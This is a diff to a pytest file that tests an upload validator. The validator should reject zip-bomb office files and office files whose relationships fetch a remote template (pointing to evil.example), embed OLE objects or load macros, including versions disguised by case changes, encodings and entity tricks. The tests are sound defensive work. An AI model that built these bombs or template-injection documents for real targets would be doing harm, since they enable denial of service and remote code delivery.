@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import contextlib
 import io
+import random
+import time
 import zipfile
 
 import pytest
@@ -12,7 +14,10 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from goldenthread.hub.maturity import attachments
-from goldenthread.hub.maturity.file_types import MOST_PARTS, Refused, file_type, named_type
+from goldenthread.hub.maturity.file_types import Refused, file_type, named_type
+from goldenthread.hub.maturity.packed import MOST_PARTS
+from goldenthread.hub.plans.grids.faults import GridFault
+from goldenthread.hub.plans.grids.zipped import opened
 from tests.made.files import JPEG, PDF, PNG, an_office_file
 
 GOOD = {
@@ -66,15 +71,80 @@ def test_what_is_not_what_it_says_is_refused_with_what_to_do(name: str, content:
         file_type(name, content)
 
 
-def test_a_file_that_unpacks_to_far_more_than_it_is_is_refused() -> None:
+def packed_with(**parts: bytes) -> bytes:
+    """A document with these parts beside the two that it must have, each by its name with __ for /."""
     made = io.BytesIO()
     with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
-        packed.writestr("[Content_Types].xml", "<Types/>")
-        packed.writestr("word/document.xml", "x")
-        packed.writestr("word/media/zeros.bin", b"\x00" * (301 * 1024 * 1024))
-    assert len(made.getvalue()) < 1024 * 1024
+        whole = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"x", "xl/workbook.xml": b"x"}
+        for name, content in {**whole, **{key.replace("__", "/"): value for key, value in parts.items()}}.items():
+            packed.writestr(name, content)
+    return made.getvalue()
+
+
+@pytest.mark.parametrize(
+    "bomb",
+    [
+        {"word__media__zeros.bin": b"\x00" * (301 * 1024 * 1024)},
+        {"word__media__zeros.bin": b"\x00" * (40 * 1024 * 1024)},
+        {"[Content_Types].xml": b"<Types>" + b" " * (290 * 1024 * 1024)},
+    ],
+    ids=["more than may be", "a thousand times itself", "a list of spaces"],
+)
+def test_a_file_that_unpacks_to_far_more_than_it_is_is_refused_at_once(bomb: dict[str, bytes]) -> None:
+    content = packed_with(**bomb)
+    assert len(content) < 1024 * 1024
+    began = time.process_time()
     with pytest.raises(Refused, match="unpacks to far more"):
-        file_type("bomb.docx", made.getvalue())
+        file_type("bomb.docx", content)
+    with pytest.raises(GridFault, match="unpacks to far more"):
+        opened(content)
+    assert time.process_time() - began < 0.2
+
+
+def test_a_list_that_is_too_long_is_not_read_whole() -> None:
+    long = b"<Types>" + random.Random(1).randbytes(3 * 1024 * 1024).hex().encode()
+    with pytest.raises(Refused, match="unpacks to far more"):
+        file_type("long.docx", packed_with(**{"[Content_Types].xml": long}))
+
+
+RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def leading(kind: str, target: str, mode: str = "") -> bytes:
+    """A list of what a part leads to, with one thing in it."""
+    return f'<Relationships><Relationship Id="1" Type="{kind}" Target="{target}" {mode}/></Relationships>'.encode()
+
+
+EXTERNAL = 'TargetMode="External"'
+TEMPLATE = leading(f"{RELATIONS}/attachedTemplate", "https://evil.example/x.dotm", EXTERNAL)
+
+
+@pytest.mark.parametrize(
+    ("part", "content", "words"),
+    [
+        ("word/_rels/settings.xml.rels", TEMPLATE, "fetches its template"),
+        ("word/_rels/SETTINGS.XML.RELS", TEMPLATE.replace(b"attached", b"attach&#101;d"), "fetches its template"),
+        ("word/_rels/document.xml.rels", leading(f"{RELATIONS}/oleObject", "embeddings/o.bin"), "another programme"),
+        (
+            "word/_rels/document.xml.rels",
+            leading(f"{RELATIONS}/oleObject", "file://x/o", EXTERNAL),
+            "another programme",
+        ),
+        ("word/_rels/document.xml.rels", leading("http://x/vbaProject", "a.bin"), "macros"),
+        ("word/_rels/settings.xml.rels", TEMPLATE.decode().encode("utf-16"), "no office programme"),
+        ("word/_rels/settings.xml.rels", b'<?xml version="1.0" encoding="utf-7"?>' + TEMPLATE, "no office programme"),
+        ("word/_rels/settings.xml.rels", b'<!DOCTYPE x [<!ENTITY a "vba">]>' + TEMPLATE, "no office programme"),
+        ("[Content_Types].xml", "<Types>macroEnabled</Types>".encode("utf-16"), "no office programme"),
+    ],
+)
+def test_what_runs_or_fetches_is_refused_however_it_is_written(part: str, content: bytes, words: str) -> None:
+    with pytest.raises(Refused, match=words):
+        file_type("plan.docx", packed_with(**{part: content}))
+
+
+def test_a_link_to_a_web_page_is_no_harm() -> None:
+    link = leading(f"{RELATIONS}/hyperlink", "https://www.gov.uk/", EXTERNAL)
+    assert file_type("plan.docx", packed_with(**{"word/_rels/document.xml.rels": link})).name == "Word"
 
 
 def test_a_file_of_too_many_parts_is_refused() -> None:
